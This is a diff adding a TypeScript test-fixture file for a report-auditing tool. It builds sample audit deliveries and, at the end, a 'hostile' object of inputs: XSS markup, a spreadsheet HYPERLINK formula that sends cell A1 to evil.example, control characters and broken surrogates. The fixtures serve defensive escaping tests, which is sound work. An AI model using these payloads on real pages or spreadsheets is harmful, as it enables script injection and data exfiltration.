@@ -1,0 +1,73 @@
+/** Deliveries for tests, with what a hostile page may hold. */
+import type { Delivery } from '../../lib/export/delivery.ts';
+import { toResult } from '../../lib/findings/result.ts';
+import '../../lib/locales/index.ts';
+import type { Locale } from '../../lib/model/locale.ts';
+import type { Claim } from '../../lib/model/prose.ts';
+import type { AuditResult } from '../../lib/model/result.ts';
+import { claim } from '../checks/prose-builder.ts';
+import type { ReportChanges } from '../checks/report-builder.ts';
+import { viewOf } from '../findings/audited.ts';
+
+export const source: AuditResult['source'] = {
+  kind: 'html',
+  name: 'reports/a.html',
+  url: 'https://www.example.gov.cn/nb.html',
+  sha256: 'ab'.repeat(32),
+};
+
+/** 21 November 2026, five past nine, wherever the tests run. */
+export const at = new Date(2026, 10, 21, 9, 5);
+
+export const clausesOf: Delivery['clausesOf'] = (rule) => (rule === 't3-row-total' ? ['条例第五十条'] : []);
+
+/** One row total too high by one: 63 natural persons, 64 in all; so 64 came in and 63 were handled. */
+export const wrongTotal: ReportChanges = {
+  cells: {
+    't3.received.natural': '63',
+    't3.received.total': '64',
+    't3.granted.natural': 63,
+    't3.granted.total': 63,
+    't3.outcomes.natural': 63,
+    't3.outcomes.total': 63,
+  },
+};
+
+export function deliveryOf(changes: ReportChanges, more: Partial<Delivery> = {}, locale: Locale = 'zh-CN'): Delivery {
+  return { result: toResult(viewOf(changes), source, locale, 4.1), at, clausesOf, ...more };
+}
+
+/** The delivery with its result changed. */
+export function withResult(delivery: Delivery, changes: Partial<AuditResult>): Delivery {
+  return { ...delivery, result: { ...delivery.result, ...changes } };
+}
+
+const nothing = { report: null, findings: [], checks: [] };
+export const unreadable = withResult(deliveryOf({}), {
+  ...nothing,
+  source: { kind: 'text', name: '年报 a?.txt', url: null, sha256: '' },
+  error: '读不了：EACCES',
+  standing: 'unreadable',
+});
+export const noReport = withResult(deliveryOf({}), { ...nothing, standing: 'not-a-report' });
+export const olderReport = withResult(deliveryOf({}), { ...nothing, standing: 'before-the-forms', year: 2016 });
+
+/** The first finding with other words. */
+export function withFinding(delivery: Delivery, changes: Partial<AuditResult['findings'][number]>): Delivery {
+  const [first, ...others] = delivery.result.findings;
+  if (first === undefined) throw new Error('nothing was found');
+  return withResult(delivery, { findings: [{ ...first, ...changes }, ...others] });
+}
+
+/** A sentence that says a number of one cell. */
+export function said(subject: string, value: number, quote: string): Claim {
+  return claim(quote, subject, value);
+}
+
+export const hostile = {
+  markup: '<img src=x onerror="alert(1)">&amp;<script>alert(2)</script>',
+  formula: '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
+  controls: 'a\u0000b\u001b[2Jc\u202ed\uffffe',
+  halves: 'x\ud83dy\udc00z',
+  emoji: '👩‍👩‍👧‍👦 🏛️',
+} as const;
